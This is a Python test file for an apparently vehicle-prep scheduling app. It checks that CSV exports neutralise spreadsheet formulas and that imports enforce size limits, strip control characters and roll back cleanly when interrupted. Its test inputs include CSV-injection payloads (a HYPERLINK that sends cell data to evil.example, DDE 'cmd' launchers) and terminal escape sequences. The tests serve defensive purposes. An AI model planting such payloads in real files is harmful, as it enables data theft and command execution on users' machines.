"""Files in and out: spreadsheet formula cells, import limits and messages, and an import that
leaves room for the other terminals while it stays all rows or none (both engines)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import threading
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select, text

from db import cars, csvfile, dashboard, import_run, ledger, ledger_rows, timebank
from db.capacity import set_capacity
from db.doctor import run_checks
from db.engine import Database
from db.errors import Invalid
from db.import_run import ImportInterrupted
from db.models import Car, CarAccess, Event, Notification, ResourceCapacity
from db.transfer import ImportRejected, export_table, import_csv, read_rows

ROOT = Path(__file__).resolve().parent.parent
HOSTILE_FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
)


def write(tmp_path: Path, content: str, name: str = "import.csv") -> Path:
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    return path


def count(world: Any, model: Any, *where: Any) -> int:
    statement = select(func.count()).select_from(model)
    for condition in where:
        statement = statement.where(condition)
    return int(world.db.query(lambda s: s.scalar(statement)))


def rows_of(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body, newline="")))


# ------------------------------------------------------------------------------------------------
# 1. spreadsheet formula cells
# ------------------------------------------------------------------------------------------------
def test_a_text_cell_that_a_spreadsheet_would_run_is_quoted() -> None:
    for value in HOSTILE_FORMULAS:
        cell = csvfile.text_cell(value)
        assert cell == "'" + value, value
        assert csvfile.unquote(cell) == value
    for value in ("Kari Nordmann", "EL 12345", "", "Says 'hi'", "'quoted'", "2026-11-30"):
        assert csvfile.text_cell(value) == value
        assert csvfile.unquote(value) == value
    # a text that starts with the quote and a formula character keeps both, and reads back
    assert csvfile.text_cell("'=1") == "''=1" and csvfile.unquote("''=1") == "'=1"
    # cleaned: no control characters in a cell (a line break and a tab inside stay)
    assert csvfile.text_cell("a\x1b[2Jb\x00\nc\td") == "a[2Jb\nc\td"
    # numbers stay numbers, negative ones too
    assert csvfile.cell(-3) == -3 and csvfile.cell(-1.5) == -1.5
    assert csvfile.cell(Decimal("-2.5")) == Decimal("-2.5")
    assert csvfile.cell(csvfile.number(-1.5)) == "-1.50"
    assert csvfile.cell(None) == ""


@pytest.fixture
def hostile_car(world: Any) -> int:
    return world.register(
        customer_name=HOSTILE_FORMULAS[0],
        color=HOSTILE_FORMULAS[1],
        model=HOSTILE_FORMULAS[4],
        order_number="-2+3",
        customer_phone="+47 912 34 567",
        seller_notes=HOSTILE_FORMULAS[2],
    )


def test_export_csv_quotes_formula_cells_and_keeps_numbers(world: Any, hostile_car: int) -> None:
    coordinator = world["coordinator499"]
    world.db.run(
        ledger.book,
        coordinator,
        resource_type_id=world.rt["TECH_PREP"],
        date=world.day(1),
        estimated_hours=6,
        user_id=world["mechanic499"].user_id,
    )
    world.db.run(  # a cut below the booked hours: available_hours is negative
        set_capacity,
        coordinator,
        dealership_id=world.d["499"],
        resource_type_id=world.rt["TECH_PREP"],
        date=world.day(1),
        allocated_hours=4,
        user_id=world["mechanic499"].user_id,
        allow_overbook=True,
    )
    out = io.StringIO()
    world.db.query(export_table, "cars", "csv", out)
    header, car = rows_of(out.getvalue())
    got = dict(zip(header, car, strict=True))
    assert got["customer_name"] == "'" + HOSTILE_FORMULAS[0]
    assert got["color"] == "'" + HOSTILE_FORMULAS[1]
    assert got["model"] == "'" + HOSTILE_FORMULAS[4]
    assert got["order_number"] == "'-2+3"
    assert got["customer_phone"] == "'+47 912 34 567"
    assert got["seller_notes"] == "'" + HOSTILE_FORMULAS[2]
    assert got["id"] == str(hostile_car) and got["vin"].startswith("WBA")
    for cell in car:
        assert cell[:1] not in csvfile.FORMULA_STARTS, cell

    out = io.StringIO()
    world.db.query(export_table, "resource_capacities", "csv", out)
    header, *capacity_rows = rows_of(out.getvalue())
    available = [dict(zip(header, r, strict=True))["available_hours"] for r in capacity_rows]
    assert "-2.0" in available  # a negative number stays a number, not quoted text

    out = io.StringIO()  # JSON is for programs: the values exactly as stored
    world.db.query(export_table, "cars", "json", out)
    (record,) = json.loads(out.getvalue())
    assert record["customer_name"] == HOSTILE_FORMULAS[0]
    assert record["order_number"] == "-2+3"


def test_an_exported_file_imports_back_as_it_was(
    world: Any, hostile_car: int, tmp_path: Path
) -> None:
    """The quote export puts before a formula character is taken off again on import."""
    out = io.StringIO()
    world.db.query(export_table, "cars", "csv", out)
    header, car = rows_of(out.getvalue())
    got = dict(zip(header, car, strict=True))
    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [
            ["vin", "brand", "model", "order_number", "customer_name", "customer_phone"],
            ["WBA71AW010F123456", "BMW", got["model"], "ORD-B", got["customer_name"], ""],
            ["WBA71AW010F654321", "BMW", "X5", got["order_number"], "Kari", got["customer_phone"]],
        ]
    )
    path = write(tmp_path, buffer.getvalue())
    assert import_csv(world.db, world["seller495"], "cars", path) == 2
    with world.db.read() as session:
        names = session.execute(
            select(Car.model, Car.customer_name, Car.order_number).order_by(Car.id)  # type: ignore[call-overload]
        ).all()
    assert [tuple(n) for n in names[1:]] == [
        (HOSTILE_FORMULAS[4], HOSTILE_FORMULAS[0], "ORD-B"),
        ("X5", "Kari", "-2+3"),
    ]
    phone = world.db.query(
        lambda s: s.scalar(select(Car.customer_phone).where(Car.order_number == "-2+3"))
    )
    assert phone == "+47 912 34 567"


def test_dashboard_csv_quotes_text_and_keeps_negative_numbers() -> None:
    table = dashboard.Table(
        key="workload",
        title="Workload",
        columns=(
            dashboard.Col("Person", "name"),
            dashboard.Col("Hours", "hours"),
            dashboard.Col("Jobs", "int"),
            dashboard.Col("Share", "pct"),
            dashboard.Col("", "bar"),
        ),
        rows=[
            dashboard.Row((HOSTILE_FORMULAS[0], -1.5, -2, -0.25, "███")),
            dashboard.Row(("@Per", 2, 3, 0.5, "█"), level="red"),
        ],
    )
    out = io.StringIO()
    assert dashboard.write_csv(table, out) == 2
    assert rows_of(out.getvalue()) == [
        ["Person", "Hours", "Jobs", "Share", "level"],
        ["'" + HOSTILE_FORMULAS[0], "-1.50", "-2", "-25.0", ""],
        ["'@Per", "2.00", "3", "50.0", "red"],
    ]


def test_payroll_csv_quotes_text_and_keeps_negative_numbers() -> None:
    row = timebank.HoursRow(
        user_id="x",
        person="=cmd|' /C calc'!A0",
        day=date(2030, 1, 7),
        resource_type_id=1,
        work="+Tech\x1b[2J",
        productive=True,
        clocked=-0.5,
        estimated=1,
    )
    out = io.StringIO()
    assert timebank.write_csv([row], out) == 1
    assert rows_of(out.getvalue())[1] == [
        "'=cmd|' /C calc'!A0",
        "2030-01-07",
        "'+Tech[2J",
        "yes",
        "-0.50",
        "1.00",
    ]


# ------------------------------------------------------------------------------------------------
# 2. import: never a traceback, never an unbounded read, never raw bytes in a message
# ------------------------------------------------------------------------------------------------
def test_an_oversized_cell_is_that_rows_reason(world: Any, tmp_path: Path) -> None:
    huge = "x" * 200_000
    content = (
        "vin,brand,model,order_number,customer_name\n"
        "WBA71AW010F123456,BMW,i4,1,Kari\n"
        f"WBA71AW010F654321,BMW,i4,2,{huge}\n"
        f'WBA71AW010F222222,BMW,i4,3,"{huge}"\n'
        "WBA71AW010F333333,BMW,i4,4,Per\n"
    )
    with pytest.raises(ImportRejected) as rejected:
        import_csv(world.db, world["seller495"], "cars", write(tmp_path, content))
    reasons = dict(rejected.value.problems)
    assert sorted(reasons) == [3, 4]
    assert "longer than 131,072 characters" in reasons[3]
    assert count(world, Car) == 0


def test_a_long_value_under_the_csv_limit_is_refused_by_its_column(
    world: Any, tmp_path: Path
) -> None:
    content = "vin,brand,model,order_number,customer_name\n" + (
        f"WBA71AW010F123456,BMW,i4,1,{'y' * 5000}\n"
    )
    with pytest.raises(ImportRejected) as rejected:
        import_csv(world.db, world["seller495"], "cars", write(tmp_path, content))
    ((row, reason),) = rejected.value.problems
    assert row == 2 and "Customer name: at most 120 characters" in reason


def _read_in_a_child(path: Path, seconds: float = 60) -> subprocess.CompletedProcess[str]:
    """``read_rows(path)`` in another process, with 1 GB of memory and a time limit: an import
    that reads without a limit or waits on a pipe fails here instead of eating the machine."""
    script = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))\n"
        "from pathlib import Path\n"
        "from db.errors import PrepfloorError\n"
        "from db.transfer import read_rows\n"
        "try:\n"
        "    read_rows(Path(sys.argv[1]), 'cars')\n"
        "except PrepfloorError as error:\n"
        "    print('refused:', error)\n"
        "else:\n"
        "    print('read it')\n"
    )
    try:
        return subprocess.run(
            [sys.executable, "-c", script, str(path)],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=seconds,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"reading {path} did not return within {seconds:.0f} s")


def test_a_device_is_refused_without_reading_it() -> None:
    done = _read_in_a_child(Path("/dev/zero"))
    assert done.returncode == 0, done.stderr[-2000:]
    assert "refused: zero is a device, not a file" in done.stdout


def test_a_pipe_is_refused_without_waiting_for_a_writer(tmp_path: Path) -> None:
    fifo = tmp_path / "rows.csv"
    os.mkfifo(fifo)
    done = _read_in_a_child(fifo, seconds=30)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "refused: rows.csv is a pipe, not a file" in done.stdout


def test_a_folder_and_a_missing_file_are_refused(tmp_path: Path) -> None:
    with pytest.raises(Invalid, match="is a folder, not a file"):
        read_rows(tmp_path, "cars")
    with pytest.raises(Invalid, match="There is no file"):
        read_rows(tmp_path / "nope.csv", "cars")


def test_a_file_over_the_limit_is_refused_and_the_limit_said(tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    with big.open("wb") as handle:  # sparse: 60 MB that take no room
        handle.write(b"vin,brand,model,order_number,customer_name\n")
        handle.truncate(60 * 1024 * 1024)
    with pytest.raises(Invalid) as refused:
        read_rows(big, "cars")
    assert "big.csv is 60.0 MB; prepfloor reads at most 50.0 MB in one import" in str(refused.value)
    assert "Split it" in str(refused.value)


def test_a_workbook_is_refused_with_what_to_do(tmp_path: Path) -> None:
    book = tmp_path / "cars.xlsx"
    book.write_bytes(b"PK\x03\x04\x14\x00\x06\x00" + b"\x00\x1b[2J" * 100)
    with pytest.raises(Invalid, match="spreadsheet workbook, not a CSV file: open it and save"):
        read_rows(book, "cars")


def test_messages_quote_values_clean_and_cut(world: Any, tmp_path: Path) -> None:
    escape = "\x1b]52;c;aGk=\x07\x1b]0;title\x07\x1b[2J"
    long = "L" * 10_000
    content = (
        "vin,brand,model,order_number,customer_name,dealership_number,seller_login\n"
        f"WBA71AW010F123456,BMW,i4,1,Kari,{escape}499{long},seller495\n"
        f"WBA71AW010F654321,BMW,i4,2,Kari,495,{escape}{long}\n"
        f"WBA71AW010F222222,BMW,i4,3,Kari,495,seller495,{escape}\n"
        f"{escape}{long},BMW,i4,4,Kari,495,seller495\n"
    )
    with pytest.raises(ImportRejected) as rejected:
        import_csv(world.db, world["manager400"], "cars", write(tmp_path, content))
    reasons = dict(rejected.value.problems)
    assert sorted(reasons) == [2, 3, 4, 5]
    for reason in [*reasons.values(), str(rejected.value)]:
        assert "\x1b" not in reason and "\x07" not in reason and "\x00" not in reason
        assert len(reason) <= import_run.REASON_LIMIT
    assert "There is no dealership number ]52;c;aGk=]0;title[2J499LLL" in reasons[2]
    assert reasons[2].endswith("….")
    assert "no active user ']52;c;aGk=]0;title[2JLLL" in reasons[3]
    assert "…'" in reasons[3]

    header = f"vin,brand,model,order_number,customer_name,{escape}{long}\n"
    with pytest.raises(ImportRejected) as rejected:
        import_csv(world.db, world["seller495"], "cars", write(tmp_path, header + "a,b,c,d,e,f\n"))
    ((row, reason),) = rejected.value.problems
    assert row == 1 and "Unknown column(s): ]52;c;agk=]0;title[2jlll" in reason
    assert "\x1b" not in reason and len(reason) < 600


# ------------------------------------------------------------------------------------------------
# 3. import: room for the other terminals, and still all rows or none
# ------------------------------------------------------------------------------------------------
@pytest.fixture
def one_row_batches(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every check and write transaction holds one row (the time budget is always spent)."""
    monkeypatch.setattr(import_run, "BATCH_SECONDS", 0.0)
    monkeypatch.setattr(import_run, "BATCH_SECONDS_POSTGRESQL", 0.0)
    monkeypatch.setattr(import_run, "PAUSE_SECONDS", 0.0)


def cars_file(tmp_path: Path, rows: int) -> Path:
    lines = ["vin,brand,model,order_number,customer_name"]
    lines += [f"WBA71AW010F{n:06d},BMW,i4,IMP-{n},Customer {n}" for n in range(rows)]
    return write(tmp_path, "\n".join(lines) + "\n")


def test_other_terminals_save_between_the_batches(
    world: Any, tmp_path: Path, one_row_batches: None
) -> None:
    """Another terminal (its own connection and write gate) registers a car while the import
    checks and while it writes: it is never kept waiting for the whole import."""
    other = Database(world.db.url)
    saved: list[int] = []

    def register_elsewhere(n: int) -> None:
        def go() -> None:
            car = other.run(
                cars.register_car,
                world["seller499"],
                vin=f"WBA0000000000000{n}",
                brand="BMW",
                model="X1",
                order_number=f"OTHER-{n}",
                customer_name="Walk-in",
            )
            saved.append(car.id)

        thread = threading.Thread(target=go)
        thread.start()
        thread.join(timeout=30)
        assert not thread.is_alive(), "the other terminal waited for the whole import"

    def progress(step: str, done: int, total: int) -> None:
        if done == 3 and step in ("checking", "writing"):
            register_elsewhere(len(saved))

    try:
        assert (
            import_csv(world.db, world["seller495"], "cars", cars_file(tmp_path, 6), progress) == 6
        )
    finally:
        other.dispose()
    assert len(saved) == 2
    with world.db.read() as session:
        imported = session.scalars(select(Car.id).where(Car.order_number.like("IMP-%"))).all()  # type: ignore[union-attr]
    assert len(imported) == 6
    assert min(imported) < saved[1] < max(imported)  # written between two of the import's batches


def test_a_vin_registered_meanwhile_undoes_the_import(
    world: Any, tmp_path: Path, one_row_batches: None
) -> None:
    events_before = count(world, Event)

    def progress(step: str, done: int, total: int) -> None:
        if step == "writing" and done == 3:  # rows 2-4 are written; row 5's VIN is taken now
            world.db.run(
                cars.register_car,
                world["seller499"],
                vin="WBA71AW010F000003",
                brand="BMW",
                model="X1",
                order_number="ELSEWHERE",
                customer_name="Walk-in",
            )

    with pytest.raises(ImportInterrupted) as stopped:
        import_csv(world.db, world["seller495"], "cars", cars_file(tmp_path, 6), progress)
    error = stopped.value
    assert [n for n, _ in error.problems] == [5]
    assert "already belongs to order ELSEWHERE" in error.problems[0][1]
    assert error.undone == 3 and error.kept == []
    message = str(error)
    assert message.startswith("Nothing was imported: row 5 was refused while the rows were")
    assert "The 3 cars already written were removed again." in message

    # only the other terminal's car is left, with its own notification; the import's are gone
    assert count(world, Car) == 1
    other_car = world.db.query(lambda s: s.scalar(select(Car.id)))
    notes = world.db.query(lambda s: s.scalars(select(Notification.car_id)).all())
    assert notes == [other_car]
    assert count(world, CarAccess) == 0
    # the audit trail keeps the three registrations and says they were undone
    with world.db.read() as session:
        trail = session.execute(
            select(Event.entity_id, Event.action, Event.car_id, Event.changes)  # type: ignore[call-overload]
            .where(Event.entity == "cars", Event.id > events_before)
            .order_by(Event.id)
        ).all()
    undone_ids = {r.entity_id for r in trail if r.action == "delete"}
    assert len(undone_ids) == 3
    for entity_id in undone_ids:
        actions = [r.action for r in trail if r.entity_id == entity_id]
        assert actions == ["create", "status", "delete"]
        assert all(r.car_id is None for r in trail if r.entity_id == entity_id)
    delete = next(r for r in trail if r.action == "delete")
    assert delete.changes["reason"].startswith("import of import.csv undone: row 5 was refused")
    assert delete.changes["order_number"].startswith("IMP-")
    assert [f for f in world.db.query(run_checks) if f.level == "error"] == []


def test_the_undo_keeps_a_car_someone_already_worked_on(
    world: Any, tmp_path: Path, one_row_batches: None
) -> None:
    def progress(step: str, done: int, total: int) -> None:
        if step != "writing":
            return
        if done == 2:  # a coordinator books work on the car of row 2 (IMP-0)
            car_id = world.db.query(
                lambda s: s.scalar(select(Car.id).where(Car.order_number == "IMP-0"))
            )
            world.db.run(
                ledger.book,
                world["coordinator499"],
                resource_type_id=world.rt["TECH_PREP"],
                date=world.day(1),
                estimated_hours=2,
                car_id=car_id,
                user_id=world["mechanic499"].user_id,
            )
        if done == 4:
            world.register(vin="WBA71AW010F000004", seller="seller499", order_number="ELSE")

    with pytest.raises(ImportInterrupted) as stopped:
        import_csv(world.db, world["seller495"], "cars", cars_file(tmp_path, 6), progress)
    error = stopped.value
    assert error.undone == 3
    assert error.kept == ["order IMP-0 (VIN WBA71AW010F000000)"]
    assert str(error).startswith("Not everything could be undone: row 6 was refused")
    assert "these stayed because someone else already worked on them: order IMP-0" in str(error)
    orders = world.db.query(lambda s: s.scalars(select(Car.order_number).order_by(Car.id)).all())
    assert orders == ["IMP-0", "ELSE"]
    assert [f for f in world.db.query(run_checks) if f.level == "error"] == []


def test_ctrl_c_while_writing_undoes_what_was_written(
    world: Any, tmp_path: Path, one_row_batches: None
) -> None:
    def progress(step: str, done: int, total: int) -> None:
        if step == "writing" and done == 2:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        import_csv(world.db, world["seller495"], "cars", cars_file(tmp_path, 4), progress)
    assert count(world, Car) == 0


def capacity(world: Any, code: str, day: date) -> float | None:
    row = world.db.query(ledger_rows.capacity_row, world.d["499"], world.rt[code], day, None)
    return row.allocated_hours if row else None


def test_hours_booked_meanwhile_undo_a_capacities_import(
    world: Any, tmp_path: Path, one_row_batches: None
) -> None:
    far = world.day(40)
    content = (
        "dealership_number,resource_type,date,allocated_hours\n"
        f"499,TECH_PREP,{world.day(3).isoformat()},10\n"  # 16 -> 10
        f"499,TECH_PREP,{far.isoformat()},12\n"  # a new row
        f"499,TECH_PREP,{world.day(5).isoformat()},4\n"  # 16 -> 4: fine when checked
    )

    def progress(step: str, done: int, total: int) -> None:
        if step == "writing" and done == 2:  # meanwhile 6 h are booked on day 5
            world.db.run(
                ledger.book,
                world["coordinator499"],
                resource_type_id=world.rt["TECH_PREP"],
                date=world.day(5),
                estimated_hours=6,
                user_id=world["mechanic499"].user_id,
            )

    with pytest.raises(ImportInterrupted) as stopped:
        import_csv(
            world.db, world["coordinator499"], "capacities", write(tmp_path, content), progress
        )
    assert [n for n, _ in stopped.value.problems] == [4]
    assert "6 h are already booked" in stopped.value.problems[0][1]
    assert stopped.value.undone == 2 and stopped.value.kept == []
    assert capacity(world, "TECH_PREP", world.day(3)) == 16  # set back through the ledger
    assert capacity(world, "TECH_PREP", far) is None  # the row the import made is gone
    assert capacity(world, "TECH_PREP", world.day(5)) == 16
    with world.db.read() as session:
        actions = session.scalars(
            select(Event.action).where(Event.entity == "resource_capacities").order_by(Event.id)
        ).all()
    assert actions[-4:] == ["set", "set", "delete", "set"]
    assert [f for f in world.db.query(run_checks) if f.level == "error"] == []


def test_a_persons_rows_of_one_day_are_checked_together(
    world: Any, tmp_path: Path, one_row_batches: None
) -> None:
    """A person's hours of one day are limited over every kind of work: rows that add up over
    the limit are refused when checked, whatever lies between them in the file."""
    far = world.day(30).isoformat()
    content = (
        "dealership_number,resource_type,date,allocated_hours,user_login\n"
        f"499,TECH_PREP,{far},20,mechanic499\n"
        f"499,WASH,{far},8,\n"
        f"499,WASH,{far},10,mechanic499\n"
    )
    with pytest.raises(ImportRejected) as rejected:
        import_csv(world.db, world["coordinator499"], "capacities", write(tmp_path, content))
    assert not isinstance(rejected.value, ImportInterrupted)
    assert [n for n, _ in rejected.value.problems] == [4]
    assert count(world, ResourceCapacity, ResourceCapacity.date == world.day(30)) == 0


def test_a_long_import_is_one_write_transaction_per_batch(
    world: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The rows are not written in one transaction: with the default batch time a 40-row file
    needs more than one write when each row is slowed to a few hundredths of a second."""
    import time

    original = cars.register_car
    writes: list[int] = []

    def slow(*args: Any, **kwargs: Any) -> Any:
        time.sleep(0.03)
        return original(*args, **kwargs)

    monkeypatch.setattr(cars, "register_car", slow)
    assert (
        import_csv(
            world.db,
            world["seller495"],
            "cars",
            cars_file(tmp_path, 40),
            lambda step, done, total: writes.append(done) if step == "writing" else None,
        )
        == 40
    )
    assert len(writes) > 3 and writes[-1] == 40  # several committed batches
    assert world.db.query(lambda s: s.scalar(text("SELECT count(*) FROM cars"))) == 40
